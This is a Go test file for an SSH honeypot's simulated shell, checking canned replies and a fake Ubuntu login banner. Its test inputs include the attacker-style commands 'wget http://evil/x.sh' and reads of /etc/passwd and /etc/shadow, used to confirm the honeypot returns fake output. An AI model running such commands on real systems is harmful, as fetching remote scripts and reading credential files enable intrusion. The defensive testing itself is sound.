/*
 * Hivepot
 * Copyright (C) 2024  Hivepot Contributors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU Affero General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU Affero General Public License for more details.
 *
 * You should have received a copy of the GNU Affero General Public License
 * along with this program.  If not, see <http://www.gnu.org/licenses/>.
 */

package srv

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestSimulateCommand(t *testing.T) {
	tests := []struct {
		name     string
		cmd      string
		contains string
		terminal bool
	}{
		{"whoami", "whoami", "root\r\n", false},
		{"id", "id", "uid=0(root)", false},
		{"pwd", "pwd", "/root\r\n", false},
		{"hostname", "hostname", "honeypot\r\n", false},
		{"uname short", "uname", "Linux\r\n", false},
		{"uname -a", "uname -a", "5.15.0-91-generic", false},
		{"passwd dump", "cat /etc/passwd", "root:x:0:0:root:/root:/bin/bash", false},
		{"shadow denied", "cat /etc/shadow", "Permission denied", false},
		{"missing file", "cat /tmp/x", "No such file or directory", false},
		{"bare cat", "cat", "", false},
		{"ls home", "ls", "snap\r\n", false},
		{"ls long", "ls -la", ".bash_history", false},
		{"ls etc", "ls /etc", "passwd", false},
		{"echo", "echo hello world", "hello world\r\n", false},
		{"cd is silent", "cd /tmp", "", false},
		{"unknown", "wget http://evil/x.sh", "bash: wget: command not found", false},
		{"exit", "exit", "", true},
		{"quit", "quit", "", true},
		{"logout", "logout", "", true},
		{"case folded", "EXIT", "", true},
		{"whitespace", "  whoami  ", "root\r\n", false},
		{"empty", "   ", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, terminal := simulateCommand(tt.cmd)
			require.Equal(t, tt.terminal, terminal)
			if tt.contains == "" {
				require.Empty(t, out)
			} else {
				require.Contains(t, out, tt.contains)
			}
		})
	}
}

func TestShellBannerCarriesClientIP(t *testing.T) {
	banner := shellBanner("198.51.100.7")
	require.Contains(t, banner, "Ubuntu 22.04.3 LTS")
	require.Contains(t, banner, "Last login: ")
	require.True(t, strings.HasSuffix(banner, "from 198.51.100.7\r\n"))
}
